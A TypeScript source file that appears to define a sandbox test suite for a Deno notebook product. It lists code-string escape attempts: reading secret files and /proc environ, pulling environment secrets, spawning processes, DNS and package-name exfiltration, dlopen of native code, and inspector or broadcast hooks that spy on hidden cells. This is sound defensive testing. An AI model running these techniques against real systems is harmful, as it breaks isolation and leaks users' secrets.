/** Ways out by Deno's and Node's own functions, from a notebook to which nothing was given. */
import type { Places, Way } from "./way.ts";

const BROKER = "permission broker; behind it Landlock and seccomp";
const IMPORT = "seccomp: sockets; nothing outside of the cache is loaded";
const OWN = "a folder of this run alone";
const LOCKED = "the hidden first cell";

/** The ways, each an expression. */
export function scriptWays({ outside, secret, project, runner, port }: Places): Way[] {
  const way = (wall: string) => (name: string, code: string): Way => ({ name, wall, code });
  const broker = way(BROKER);
  const load = way(IMPORT);
  const own = way(OWN);
  const locked = way(LOCKED);
  const q = JSON.stringify;
  const worker = (code: string) =>
    `new Promise((resolve) => { const w = new Worker("data:application/javascript," + encodeURIComponent(${
      q(`(async () => { try { postMessage(String(await (${code}))); } catch (e) { postMessage("refused " + e.name); } })();`)
    }), { type: "module" }); w.onmessage = (e) => { w.terminate(); resolve(e.data); }; w.onerror = (e) => { e.preventDefault(); resolve("refused " + e.message); }; })`;
  const node = (module: string, code: string) => `import("node:${module}").then((it) => ${code})`;
  return [
    broker("read a file outside", `Deno.readTextFileSync(${q(secret)})`),
    broker("read it by Node", node("fs", `it.readFileSync(${q(secret)}, "utf8")`)),
    broker(
      "read it by a stream of Node",
      node(
        "fs",
        `new Promise((ok, no) => it.createReadStream(${q(secret)}).on("data", ok).on("error", no))`,
      ),
    ),
    broker("read it by fetch", `fetch("file://" + ${q(secret)}).then((it) => it.text())`),
    broker(
      "read it as a module of text",
      `import("file://" + ${q(secret)}, { with: { type: "text" } }).then((it) => it.default)`,
    ),
    broker(
      "read it as JSON",
      `import("file://" + ${
        q(outside + "/secret.json")
      }, { with: { type: "json" } }).then((it) => JSON.stringify(it.default))`,
    ),
    broker("read it in a worker", worker(`Deno.readTextFileSync(${q(secret)})`)),
    broker(
      "read it in a worker that asks for all",
      worker(
        `Deno.permissions.request({ name: "read" }).then(() => Deno.readTextFileSync(${
          q(secret)
        }))`,
      ),
    ),
    broker(
      "read it by a link of the project that leads out",
      `Deno.readTextFileSync(${q(project + "/link/secret.txt")})`,
    ),
    broker("list a folder outside", `[...Deno.readDirSync(${q(outside)})].length`),
    broker("look whether a file is there", `Deno.statSync(${q(secret)}).size`),
    broker("read the project's history", `Deno.readTextFileSync(${q(project + "/.git/config")})`),
    broker("read the runner's notes", `Deno.readTextFileSync(${q(project + "/.tallybook/note")})`),
    broker("read the runner's environment", `Deno.readTextFileSync("/proc/${runner}/environ")`),
    broker(
      "read a database outside",
      node("sqlite", `new it.DatabaseSync(${q(outside + "/a.db")}).exec("select 1")`),
    ),
    broker(
      "attach a database outside",
      node(
        "sqlite",
        `{ const db = new it.DatabaseSync(":memory:"); db.exec("attach '${outside}/b.db' as b; create table b.t (x)"); return "DONE"; }`,
      ).replace("=> {", "=> (() => {").replace(/\}\)$/, "})())"),
    ),
    broker("write outside", `(Deno.writeTextFileSync(${q(outside + "/written")}, "x"), "DONE")`),
    broker(
      "write into the project",
      `(Deno.writeTextFileSync(${q(project + "/written")}, "x"), "DONE")`,
    ),
    broker("write by Node", node("fs", `(it.writeFileSync(${q(outside + "/node")}, "x"), "DONE")`)),
    broker(
      "copy a file of the project out",
      `(Deno.copyFileSync(${q(project + "/deno.json")}, ${q(outside + "/copy")}), "DONE")`,
    ),
    broker(
      "link out of the project",
      `(Deno.symlinkSync(${q(outside)}, ${q(project + "/way")}), "DONE")`,
    ),
    broker("start a program", `new Deno.Command("id").outputSync().code`),
    broker("start a program by Node", node("child_process", `it.execSync("id").toString()`)),
    broker(
      "start a second Deno",
      `new Deno.Command(Deno.execPath(), { args: ["eval", "1"] }).outputSync().code`,
    ),
    broker("signal the runner", `(Deno.kill(${runner}, "SIGCONT"), "DONE")`),
    broker("signal it by Node", node("process", `it.default.kill(${runner}, 0)`)),
    broker(
      "connect to a port of this machine",
      `Deno.connect({ port: ${port} }).then(() => "DONE")`,
    ),
    broker(
      "connect by Node",
      node(
        "net",
        `new Promise((ok, no) => it.connect(${port}).on("connect", () => ok("DONE")).on("error", no))`,
      ),
    ),
    broker("fetch from this machine", `fetch("http://127.0.0.1:${port}/").then(() => "DONE")`),
    broker(
      "a WebSocket",
      `new Promise((ok, no) => { const s = new WebSocket("ws://127.0.0.1:${port}/"); s.onopen = () => ok("DONE"); s.onerror = () => no(new Error("refused")); })`,
    ),
    broker(
      "an event stream",
      `new Promise((ok, no) => { const s = new EventSource("http://127.0.0.1:${port}/"); s.onopen = () => ok("DONE"); s.onerror = () => { s.close(); no(new Error("refused")); }; })`,
    ),
    broker("listen on a port", `(Deno.listen({ port: 0 }), "DONE")`),
    broker("serve on a port", `(Deno.serve({ port: 0 }, () => new Response("x")), "DONE")`),
    broker(
      "a datagram",
      node(
        "dgram",
        `new Promise((ok, no) => { const s = it.createSocket("udp4"); s.on("error", no); setTimeout(() => no(new Error("refused")), 200); s.send("x", ${port}, "127.0.0.1", (e) => e ? no(e) : ok("DONE")); })`,
      ),
    ),
    broker(
      "a unix socket",
      `Deno.connect({ transport: "unix", path: ${
        q(outside + "/socket")
      } } as Deno.UnixConnectOptions).then(() => "DONE")`,
    ),
    broker(
      "carry text out in a name to be resolved",
      `Deno.resolveDns("secret.example.com", "A").then(() => "DONE")`,
    ),
    load(
      "carry text out in a package's name",
      `import("npm:tallybook-secret-" + "text").then(() => "DONE")`,
    ),
    load(
      "carry text out in a JSR package's name",
      `import("jsr:@tallybook/secret-" + "text").then(() => "DONE")`,
    ),
    load(
      "load a module from this machine's network",
      `import("http://127.0.0.1:${port}/a.ts").then(() => "DONE")`,
    ),
    load("load a module from outside", `import(${q(outside + "/module.ts")}).then(() => "DONE")`),
    broker(
      "a library that is no package's",
      `(Deno.dlopen(${q(outside + "/library.so")}, {}), "DONE")`,
    ),
    locked(
      "native code by Deno.dlopen",
      `(Deno.dlopen("libc.so.6", { getpid: { parameters: [], result: "i32" } }), "DONE")`,
    ),
    broker(
      "native code by process.dlopen",
      node(
        "process",
        `(it.default.dlopen({ exports: {} }, ${q(outside + "/library.node")}), "DONE")`,
      ),
    ),
    broker(
      "native code in a worker",
      worker(
        `Deno.dlopen("libc.so.6", { getpid: { parameters: [], result: "i32" } }).symbols.getpid()`,
      ),
    ),
    broker(
      "ask for more",
      `Deno.permissions.request({ name: "read" }).then(({ state }) => state === "granted" ? Deno.readTextFileSync(${
        q(secret)
      }) : "refused")`,
    ),
    own(
      "the user's home",
      `Deno.env.get("HOME") === ${q(Deno.env.get("HOME"))} ? "DONE" : "refused"`,
    ),
    own(
      "secrets of the environment",
      `["HTTPS_PROXY", "https_proxy", "TALLYBOOK_SECRET"].map((it) => Deno.env.get(it)).find((it) => it !== undefined) ?? "refused"`,
    ),
    own(
      "something stored for the next notebook",
      `(() => { const before = localStorage.getItem("left"); localStorage.setItem("left", "here"); return before ?? "refused"; })()`,
    ),
    own(
      "something cached for the next notebook",
      `caches.open("left").then(async (it) => { const found = await it.match("https://example.com/"); await it.put("https://example.com/", new Response("here")); return found ? "DONE" : "refused"; })`,
    ),
    own(
      "the key that signs its kernel's messages",
      `[...Deno.readDirSync(Deno.env.get("HOME") + "/..")].map(({ name }) => name).find((name) => name.endsWith(".json")) ?? "refused"`,
    ),
    locked(
      "hidden cells by the inspector",
      node("inspector", `(new it.Session().connect(), "DONE")`),
    ),
    locked(
      "hidden cells by the inspector's promises",
      node("inspector/promises", `(new it.Session().connect(), "DONE")`),
    ),
    broker("a port for the inspector", node("inspector", `(it.open(0), it.url())`)),
    locked(
      "hidden cells by a listener on the broadcast",
      `(() => { const seen: unknown[] = []; const original = Deno.jupyter.broadcast; (Deno.jupyter as { broadcast: unknown }).broadcast = (...args: unknown[]) => { seen.push(args); return (original as (...a: unknown[]) => unknown)(...args); }; (globalThis as { seenHere?: unknown[] }).seenHere = seen; return "refused"; })()`,
    ),
    locked(
      "hidden cells seen one cell later",
      `((globalThis as { seenHere?: unknown[] }).seenHere ?? []).some((it) => JSON.stringify(it).includes("barrier")) ? "DONE" : "refused"`,
    ),
  ];
}
